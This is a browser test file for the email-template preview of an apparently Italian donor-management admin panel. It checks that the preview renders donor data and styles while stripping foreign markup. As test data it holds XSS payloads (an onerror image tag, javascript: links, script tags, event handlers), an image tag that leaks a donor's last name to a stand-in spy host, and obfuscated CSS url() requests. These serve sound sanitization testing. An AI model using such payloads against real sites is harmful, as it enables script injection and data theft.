import { expect, it } from "vitest";
import { userEvent } from "vitest/browser";
import { until } from "../../../ui/test-support";
import { renderPage, type RenderedPage, type RenderOptions } from "../../../widgets/test-support/render-page";

const HOSTILE = "<img src=x onerror=alert(1)>";
let scene: RenderedPage;
const path = ({ url }: Request) => new URL(url).pathname.replace(/^.*\/v2/, "");
const donor = (_id: string, firstName: string, lastName: string) => ({ _id, firstName, lastName, gender: "M" });
const DONORS = [donor("d1", HOSTILE, "Abate"), donor("d2", "Massimiliano Ferdinando Giovanni Battista", "Bo")];
const donors = () => Response.json({ success: true, donors: DONORS, total: DONORS.length, skip: 0, limit: 50 });

/** @param template the template in the response; the mock's when missing */
async function open({ template, ...options }: RenderOptions & { template?: object } = {}) {
  scene = await renderPage("admin", "/app/emails-template/t1", {
    width: 1200,
    ...options,
    answer(request, mock) {
      if (path(request) === "/donors") return donors();
      if (template && request.method === "GET" && path(request) === "/emails-template/t1")
        return Response.json({ success: true, template });
      return options.answer?.(request, mock);
    },
  });
  await until(() => body("Computer")?.firstElementChild);
}
const frame = (device: string) =>
  scene.shadow.querySelector<HTMLIFrameElement>(`iframe[title="E-mail su ${device.toLowerCase()}"]`);
const body = (device: string) => frame(device)?.contentDocument?.body;
const page = () => scene.text();

it("the preview fills in a donor, and markup in a name stays text", async () => {
  await open();
  await expect.poll(() => body("Computer")?.querySelector("h1")?.textContent).toBe(`Ti aspettiamo, ${HOSTILE}`);
  expect(body("Computer")?.querySelector("img, script, style, [onerror], a[href]")).toBeNull();
  expect(frame("Computer")?.getAttribute("sandbox")).toBe("allow-same-origin");
  expect(page()).toContain(`${HOSTILE}, ti aspettiamo per donare`);
  await scene.press("button", "Il nome più lungo");
  await expect
    .poll(() => body("Telefono")?.querySelector("h1")?.textContent)
    .toBe("Ti aspettiamo, Massimiliano Ferdinando Giovanni Battista");
  await scene.press("button", "Donatore precedente");
  await expect.poll(() => body("Computer")?.textContent).toContain(HOSTILE);
});

it("the preview applies inline styles, the rules for phones, and the dark colour scheme", async () => {
  await open();
  const look = (device: string) => {
    const heading = body(device)?.querySelector("h1");
    return heading && getComputedStyle(heading);
  };
  await expect.poll(() => look("Computer")?.color).toBe("rgb(33, 29, 24)");
  expect(look("Computer")?.fontSize).toBe("26px");
  await expect.poll(() => look("Telefono")?.color).toBe("rgb(244, 239, 232)");
  const cell = (device: string) => getComputedStyle(body(device)!.querySelector("td.pad")!).paddingLeft;
  expect([cell("Computer"), cell("Telefono")]).toEqual(["40px", "20px"]);
  await scene.press("section[aria-label=Computer] label", "Scuro");
  await expect.poll(() => look("Computer")?.color).toBe("rgb(244, 239, 232)");
  // fractions of a pixel are rounded up, so that nothing is cut off
  const tall = () => body("Computer")?.firstElementChild?.getBoundingClientRect().height ?? 0;
  await expect.poll(() => frame("Computer")?.clientHeight).toBe(Math.ceil(tall()));
});

it("foreign markup is shown without scripts, event handlers, requests and links", async () => {
  const html = `<body bgcolor="#eeeeee" onload="parent.bad=1"><script>parent.bad=1</script><p style="color:rgb(1,2,3)" onclick="x()">Ciao {{firstName}}
    <a href="javascript:alert(1)">qui</a><img src="javascript:alert(1)" alt="Logo"><iframe src="https://a.example"></iframe></p><svg onload="x()"><text>no</text></svg>`;
  await open({ template: { _id: "t1", name: "Di altri", subject: "Ciao", html } });
  await expect.poll(page).toContain("Questa e-mail non viene dal nostro editor");
  // the donor may arrive after the template
  await expect.poll(() => body("Computer")?.textContent).toMatch(/Ciao <img src=x onerror=alert\(1\)>\s+qui$/);
  const shown = body("Computer")!;
  expect(getComputedStyle(shown.querySelector("p")!).color).toBe("rgb(1, 2, 3)");
  for (const element of shown.querySelectorAll("*"))
    expect(element.getAttributeNames().filter((name) => /^on|href|src/.test(name))).toEqual([]);
  expect(shown.querySelector("script, iframe, svg")).toBeNull();
  expect(shown.querySelector("a")?.title).toBe("javascript:alert(1)");
});

it.each([
  ["newer", { version: 9, blocks: [] }, "scritta con una versione più nuova"],
  ["broken", { version: 1, blocks: [{}] }, "non viene dal nostro editor"],
])("the mail of a document that is %s can still be read", async (_, document, message) => {
  await open({
    template: { _id: "t1", name: "A", subject: "Ciao", html: "<p>Ci vediamo</p>", text: "Ci vediamo", document },
  });
  expect(page()).toContain(message);
  expect(page()).not.toContain("Prima di inviare");
  await expect.poll(() => body("Computer")?.textContent).toBe("Ci vediamo");
});

it("a foreign mail without a background is readable in the dark scheme, and its subject can be changed", async () => {
  let written: unknown;
  const template = { _id: "t1", name: "Di altri", subject: "Ciao", html: "<p>Ci vediamo</p>" };
  await open({
    template,
    async answer(request, mock) {
      if (request.method !== "PUT") return mock.fetch(request);
      written = await request.json();
      return Response.json({ ...template, subject: "Ci vediamo" });
    },
  });
  const look = () => {
    const shown = body("Telefono")?.querySelector("p");
    const root = shown?.ownerDocument.documentElement;
    return shown && root && [getComputedStyle(shown).color, getComputedStyle(root).backgroundColor];
  };
  await expect.poll(() => look()?.[0]).toBe("rgb(255, 255, 255)");
  expect(look()?.[1]).toMatch(/^rgb\(18, 18, 18\)$/);
  await scene.press("button", "Cambia l’oggetto");
  const field = await until(() => scene.shadow.querySelector<HTMLInputElement>("dd input"));
  await userEvent.clear(field);
  await userEvent.keyboard("{Enter}");
  await expect.poll(page).toContain("Scrivi l’oggetto");
  await userEvent.fill(field, "Ci vediamo");
  await userEvent.keyboard("{Enter}");
  await expect.poll(() => written).toEqual({ subject: "Ci vediamo" });
  await expect.poll(() => scene.shadow.querySelector("dd input")).toBeNull();
});

it("a template that can't be filled in is shown unfilled", async () => {
  await open({ template: { _id: "t1", name: "A", subject: "Ciao {{#firstName}", html: "<p>Ciao {{#firstName}</p>" } });
  expect(page()).toContain("contiene un campo scritto male");
  expect(body("Computer")?.textContent).toBe("Ciao {{#firstName}");
});

it("failed checks are first in the list of checks", async () => {
  const document = {
    version: 1,
    subject: [],
    preheader: [{ kind: "text", text: "Ciao" }],
    brand: "#b1172c",
    blocks: [],
  };
  await open({ template: { _id: "t1", name: "A", document } });
  await expect.poll(page).toContain("2 cose da guardare");
  const lines = [...scene.shadow.querySelectorAll("section li")].map((line) => line.textContent);
  expect(lines.slice(0, 2).map((line) => line.split(":")[0])).toEqual(["Impedisce l’invio", "Impedisce l’invio"]);
});

it("a test mail goes to the user; without sending on the server there is no test mail", async () => {
  await open();
  await scene.press("button", "Invia una prova");
  await expect.poll(page).toContain("Prova inviata a admin@gds.example");
  const mails = (await scene.mock.control.mails()).filter(({ subject }) => subject.startsWith("[Prova]"));
  expect(mails.map(({ to }) => to)).toEqual(["admin@gds.example"]);
  await open({ features: [] });
  expect(page()).not.toContain("Invia una prova");
});

it("a mail without a subject isn't sent as a test either, and the reason is shown", async () => {
  const writes: string[] = [];
  const template = { _id: "t1", name: "Loro", subject: " ", html: "<p>Ciao</p>" };
  const answer = (request: Request) => void (/emails-template/.test(request.url) && writes.push(request.method));
  await open({ template, answer });
  await scene.press("button", "Invia una prova");
  await expect.poll(page).toContain("Prova non inviata. Manca l’oggetto.");
  expect(writes.filter((method) => method !== "GET")).toEqual([]);
});

it("a foreign template can't send donor data to other servers, nor request pages of the host", async () => {
  const asks = 'src="https://spy.example/a.png?n={{lastName}}"';
  const css = "td { background: url(/logout) } p { background: u\\72l(/logout) }";
  const html = `<style>${css}</style><style media="print">p { color: red }</style><p style="background-image:url('/out')">Ciao</p><img ${asks} alt="Spia"><img src="https://ok.example/{{cardNumber}}.png" alt="Due">`;
  await open({ template: { _id: "t1", name: "Loro", subject: "Ciao", html, text: "Ciao" } });
  await expect.poll(() => body("Computer")?.textContent).toContain("Ciao");
  expect(body("Computer")?.textContent).not.toContain("color");
  expect([...body("Computer")!.querySelectorAll("img")].map((image) => image.getAttribute("src"))).toEqual([
    null,
    null,
  ]);
  const sheets = [...(frame("Computer")?.contentDocument?.adoptedStyleSheets ?? [])];
  expect(sheets.flatMap(({ cssRules }) => [...cssRules].map(({ cssText }) => cssText)).join()).not.toContain("url(");
  expect(body("Computer")?.querySelector("p")?.style.backgroundImage).toBe("");
});
